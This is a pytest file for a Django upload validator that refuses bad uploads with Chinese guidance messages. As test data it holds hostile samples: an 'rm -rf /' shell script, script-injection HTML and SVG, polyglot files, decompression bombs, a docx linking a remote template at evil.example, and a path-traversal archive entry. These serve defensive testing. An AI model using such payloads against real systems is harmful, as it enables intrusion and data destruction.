"""What is not taken, and what the person who tried is told."""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pytest_django import Settings

from huying.kernel.errors import Refusal
from huying.kernel.files import accept
from huying.kernel.models import StoredFile
from tests.kernel.files import samples

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings: Settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def refuse(content: bytes, name: str = "现场.jpg") -> Refusal:
    with pytest.raises(Refusal) as refused:
        accept(SimpleUploadedFile(name, content))
    assert refused.value.status in {413, 422}
    assert not StoredFile.objects.exists()
    return refused.value


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "空的"),
        (samples.box(b"ftyp", b"heic" + bytes(12)), "兼容性最佳"),
        (samples.film(b"qt  "), "MP4"),
        (samples.film(b"3gp5"), "MP4"),
        (samples.box(b"ftyp", b"avif" + bytes(12)), "JPG"),
        (b"RIFF\x00\x00\x00\x00AVI LIST", "MP4"),
        (b"\x1aE\xdf\xa3" + bytes(50), "MP4"),
        (b"BM" + bytes(50), "JPG"),
        (b"II*\x00" + bytes(50), "JPG"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "docx"),
        (b"{\\rtf1\\ansi}", "docx"),
        (b"Rar!\x1a\x07\x00", "解压"),
        (b"7z\xbc\xaf\x27\x1c", "解压"),
        (b"\x1f\x8b\x08", "解压"),
        (samples.archive({"a.jpg": samples.image("JPEG")}), "解压"),
        (samples.archive({"OFD.xml": "<ofd/>"}), "PDF"),
        (b"MZ\x90\x00" + bytes(50), "程序"),
        (b"\x7fELF" + bytes(50), "程序"),
        (b"#!/bin/sh\nrm -rf /", "脚本"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "SVG"),
        (b"\xef\xbb\xbf <!DOCTYPE html><html></html>", "网页"),
        (b"<?xml version='1.0'?><svg/>", "SVG"),
        ("路灯".encode("utf-16"), "UTF-8"),
        (b"abc\x00def", "可以上传"),
        (b"\x81\xff\x81\xff" * 10, "UTF-8"),
        (bytes(range(1, 255)), "可以上传"),
    ],
)
def test_other_kinds_are_refused_with_what_to_do(content: bytes, told: str) -> None:
    assert told in refuse(content).message


# --- two files in one


PAGE = b"<html><script>alert(1)</script></html>"


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "GIF"])
@pytest.mark.parametrize(
    "appended", [PAGE, b"\n<SVG onload=x>", samples.archive({"a": b"b"}), samples.pdf(), b"Rar!\x1a\x07\x00"]
)
def test_a_picture_that_hides_another_file(form: str, appended: bytes) -> None:
    assert refuse(samples.image(form) + appended).code == "file_polyglot"


@pytest.mark.parametrize(
    "content",
    [
        samples.pdf() + samples.archive({"a": b"b"}),
        samples.pdf() + PAGE,
        samples.pdf().replace(b"1 0 obj", PAGE + b"1 0 obj", 1),
        samples.film() + samples.box(b"free", samples.archive({"a": b"b"})),
        samples.mp3() + samples.archive({"a": b"b"}),
        samples.wav() + samples.archive({"a": b"b"}),
        samples.docx() + PAGE,
        b"MZ" + samples.docx(),
        samples.image("GIF")[:6] + b"=1;" + PAGE,
    ],
    ids=["pdf+zip", "pdf+page", "pdf with a page", "mp4+zip", "mp3+zip", "wav+zip", "docx+page", "exe+docx", "gif-js"],
)
def test_other_files_that_are_two_at_once(content: bytes) -> None:
    refuse(content)


def test_a_pdf_behind_junk_is_none() -> None:
    refuse(b"junk\x00" + samples.pdf())
    refuse(b"junk\n" + samples.image("JPEG") + samples.pdf())


# --- broken files


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_half_a_picture_is_told_to_be_broken(form: str) -> None:
    whole = samples.image(form, (640, 480))
    assert "损坏" in refuse(whole[: len(whole) // 2]).message


def test_half_a_pdf_and_half_a_film_are_told_to_be_broken() -> None:
    assert "不完整" in refuse(samples.pdf()[:40]).message
    assert "不完整" in refuse(samples.film()[:-50]).message
    assert "不完整" in refuse(samples.film() + b"junk").message
    assert "不完整" in refuse(b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(2000)).message


# --- bombs


def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_decoded() -> None:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )
    refused = refuse(bomb)
    assert refused.code == "image_too_large"
    assert "60000×60000" in refused.message


def test_office_bombs() -> None:
    assert refuse(samples.docx({"word/media/a.bin": bytes(60 * 1024 * 1024)})).code == "file_bomb"
    assert refuse(samples.docx({f"word/{n}.xml": b"x" for n in range(3001)})).code == "file_bomb"


def test_a_bomb_that_lies_about_its_size() -> None:
    honest = samples.docx({"word/media/a.bin": bytes(20 * 1024 * 1024)})
    size = struct.pack("<I", 20 * 1024 * 1024)
    assert refuse(honest.replace(size, struct.pack("<I", 1000))).code in {"file_broken", "file_bomb"}


# --- office files that run or are something else


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (samples.docx({"word/vbaProject.bin": b"x"}), "file_macro"),
        (samples.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "file_macro"),
        (samples.docx({"word/activeX/activeX1.xml": "<x/>"}), "file_macro"),
        (samples.docx({"word/embeddings/run.EXE": b"MZ"}), "file_macro"),
        (
            samples.docx(
                {
                    "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
                    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                }
            ),
            "file_macro",
        ),
        (samples.docx({"../../evil.txt": b"x"}), "file_broken"),
        (samples.docx(main="application/vnd.openxmlformats-officedocument.presentationml.main+xml"), "file_type"),
        (samples.archive({"[Content_Types].xml": samples.WORD}), "file_type"),
        (samples.archive({"[Content_Types].xml": "", "ppt/presentation.xml": ""}), "file_type"),
        (samples.docx()[:-30], "file_broken"),
        (
            samples.archive({"[Content_Types].xml": samples.WORD, "word/document.xml": "x"}, zipfile.ZIP_LZMA),
            "file_broken",
        ),
    ],
)
def test_office_files(content: bytes, code: str) -> None:
    assert refuse(content, "报告.docx").code == code


def test_a_template_on_the_writers_own_disk_is_no_reason_to_refuse(settings: Settings) -> None:
    rels = '<Relationship Type="http://x/attachedTemplate" Target="file:///C:\\Users\\a\\Normal.dotm"/>'
    accept(SimpleUploadedFile("a.docx", samples.docx({"word/_rels/settings.xml.rels": rels})))
